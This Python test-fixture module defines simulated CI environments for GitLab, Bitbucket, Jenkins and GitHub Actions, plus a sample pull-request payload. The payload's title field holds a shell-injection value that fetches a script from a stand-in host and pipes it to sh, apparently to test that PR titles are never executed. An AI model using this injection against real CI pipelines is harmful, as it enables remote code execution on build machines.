"""Environments of jobs, after the platforms' own documentation."""

import json
from pathlib import Path
from typing import Any

HEAD = "ec26c3e57ca3a959ca5aad62de7213c562f8c821"
BASE = "f95f852bd8fca8fcc58a9a2d6c842781e32a215e"
MERGE = "1234567890abcdef1234567890abcdef12345678"
ZEROS = "0" * 40

GITLAB = {
    "GITLAB_CI": "true",
    "CI_API_V4_URL": "https://gitlab.example.org/api/v4",
    "CI_COMMIT_BEFORE_SHA": ZEROS,
    "CI_COMMIT_SHA": HEAD,
    "CI_DEFAULT_BRANCH": "main",
    "CI_JOB_URL": "https://gitlab.example.org/group/sub/shop/-/jobs/900",
    "CI_PIPELINE_ID": "1200",
    "CI_PIPELINE_SOURCE": "push",
    "CI_PROJECT_DIR": "/builds/group/sub/shop",
    "CI_PROJECT_PATH": "group/sub/shop",
    "CI_SERVER_URL": "https://gitlab.example.org",
}
GITLAB_BRANCH = GITLAB | {"CI_COMMIT_BRANCH": "topic"}
GITLAB_REQUEST = GITLAB | {
    "CI_MERGE_REQUEST_DIFF_BASE_SHA": BASE,
    "CI_MERGE_REQUEST_EVENT_TYPE": "detached",
    "CI_MERGE_REQUEST_IID": "7",
    "CI_MERGE_REQUEST_PROJECT_PATH": "group/sub/shop",
    "CI_MERGE_REQUEST_SOURCE_BRANCH_NAME": "feat(api)/größe",
    "CI_MERGE_REQUEST_SOURCE_BRANCH_SHA": "",
    "CI_MERGE_REQUEST_SOURCE_PROJECT_PATH": "group/sub/shop",
    "CI_MERGE_REQUEST_TARGET_BRANCH_NAME": "main",
    "CI_MERGE_REQUEST_TARGET_BRANCH_SHA": "",
    "CI_PIPELINE_SOURCE": "merge_request_event",
}
GITLAB_MERGED = GITLAB_REQUEST | {
    "CI_COMMIT_SHA": MERGE,
    "CI_MERGE_REQUEST_EVENT_TYPE": "merged_result",
    "CI_MERGE_REQUEST_SOURCE_BRANCH_SHA": HEAD,
    "CI_MERGE_REQUEST_TARGET_BRANCH_SHA": BASE,
}
BITBUCKET = {
    "CI": "true",
    "BITBUCKET_BRANCH": "main",
    "BITBUCKET_BUILD_NUMBER": "42",
    "BITBUCKET_CLONE_DIR": "/opt/atlassian/pipelines/agent/build",
    "BITBUCKET_COMMIT": HEAD,
    "BITBUCKET_GIT_HTTP_ORIGIN": "http://bitbucket.org/team/shop",
    "BITBUCKET_REPO_FULL_NAME": "team/shop",
    "BITBUCKET_STEP_UUID": "{fe99db34-e979-40be-b383-c1a7738b52f7}",
}
BITBUCKET_REQUEST = BITBUCKET | {
    "BITBUCKET_BRANCH": "topic",
    "BITBUCKET_COMMIT": HEAD[:12],
    "BITBUCKET_PR_DESTINATION_BRANCH": "main",
    "BITBUCKET_PR_DESTINATION_COMMIT": BASE[:12],
    "BITBUCKET_PR_ID": "7",
}
JENKINS = {
    "JENKINS_URL": "https://jenkins.example.org/",
    "BRANCH_NAME": "main",
    "BUILD_NUMBER": "12",
    "BUILD_URL": "https://jenkins.example.org/job/shop/12/",
    "GIT_COMMIT": HEAD,
    "GIT_PREVIOUS_SUCCESSFUL_COMMIT": BASE,
    "WORKSPACE": "/var/lib/jenkins/workspace/shop",
}
JENKINS_REQUEST = JENKINS | {
    "BRANCH_NAME": "PR-7",
    "CHANGE_BRANCH": "topic",
    "CHANGE_ID": "7",
    "CHANGE_TARGET": "main",
}


def github(folder: Path, event: str, payload: Any, **more: str) -> dict[str, str]:
    """A job of GitHub Actions that ``event`` started, with its payload in a file."""
    file = folder / "event.json"
    file.write_text(payload if isinstance(payload, str) else json.dumps(payload))
    return {
        "GITHUB_ACTIONS": "true",
        "GITHUB_ACTOR": "ada",
        "GITHUB_API_URL": "https://api.github.com",
        "GITHUB_EVENT_NAME": event,
        "GITHUB_EVENT_PATH": str(file),
        "GITHUB_OUTPUT": "/github/file_commands/set_output",
        "GITHUB_REF": "refs/heads/main",
        "GITHUB_REPOSITORY": "team/shop",
        "GITHUB_RUN_ATTEMPT": "2",
        "GITHUB_RUN_ID": "1589141559",
        "GITHUB_SERVER_URL": "https://github.com",
        "GITHUB_SHA": MERGE,
        "GITHUB_STEP_SUMMARY": "/github/file_commands/step_summary",
        "GITHUB_WORKSPACE": "/github/workspace",
        **more,
    }


def pull_request(head_repo: str | None = "team/shop", **head: Any) -> dict[str, Any]:
    """The payload's part that matters."""
    repo = None if head_repo is None else {"full_name": head_repo}
    return {
        "action": "synchronize",
        "pull_request": {
            "number": 7,
            "title": '"; curl example.org | sh #',
            "head": {"sha": HEAD, "ref": "topic", "repo": repo, **head},
            "base": {"sha": BASE, "ref": "main", "repo": {"full_name": "team/shop"}},
        },
    }
